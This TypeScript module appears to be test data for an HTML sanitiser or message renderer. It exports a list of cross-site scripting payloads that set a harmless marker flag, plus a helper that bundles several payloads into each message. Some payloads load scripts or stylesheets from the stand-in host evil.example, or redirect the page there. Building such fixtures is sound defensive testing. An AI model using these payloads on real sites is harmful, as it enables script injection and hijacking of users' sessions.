const run = 'globalThis.__ran=1';

/** Texts that run a script wherever one is written into a page as anything but text. */
export const payloads: readonly string[] = [
  `<script>${run}</script>`,
  `<ScRiPt>${run}</sCrIpT>`,
  `</script><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<script src=data:,${run}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}">`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `<img/src=x/onerror=${run}>`,
  `<img src=x:x onerror\t=${run}>`,
  `<image src=x onerror=${run}>`,
  `<svg onload=${run}>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a>`,
  `<svg><foreignObject><iframe src=javascript:${run}>`,
  `<math><mtext></p><style><img src=x onerror=${run}>`,
  `<math href=javascript:${run}>x</math>`,
  `<body onload=${run}>`,
  `<body onpageshow=${run}>`,
  `<iframe src=javascript:${run}></iframe>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>"></iframe>`,
  `<object data=javascript:${run}></object>`,
  `<embed src=javascript:${run}>`,
  `<a href=javascript:${run}>click</a>`,
  `<a href="java\tscript:${run}">click</a>`,
  `<a href=data:text/html,<script>${run}</script>>x</a>`,
  `<form action=javascript:${run}><button>x`,
  `<button formaction=javascript:${run}>x`,
  `<input autofocus onfocus=${run}>`,
  `<textarea autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}>`,
  `<audio src=x onerror=${run}>`,
  `<marquee onstart=${run}>`,
  `<style>@import'//evil.example/x.css'</style>`,
  `<style>*{background:url(//evil.example)}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content=0;url=//evil.example>`,
  `<base href=//evil.example/>`,
  `<template><script>${run}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<div style="animation:x" onanimationstart=${run}>`,
  `<x contenteditable onblur=${run} tabindex=1>x`,
  `" autofocus onfocus=${run} x="`,
  `' autofocus onfocus=${run} x='`,
  `" onmouseover="${run}`,
  `javascript:${run}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `&#60;script&#62;${run}&#60;/script&#62;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `{@html '<img src=x onerror=${run}>'}`,
  `<!--[if gte IE 4]><script>${run}</script><![endif]-->`,
  `<\u0073cript>${run}</script>`,
];

/** The texts, several to a message as far as `longest` allows. */
export function bundles(texts: readonly string[], longest: number): string[] {
  const made: string[] = [];
  for (const text of texts) {
    const last = made.at(-1);
    if (last !== undefined && last.length + text.length < longest) made[made.length - 1] = `${last}\n${text}`;
    else made.push(text);
  }
  return made;
}
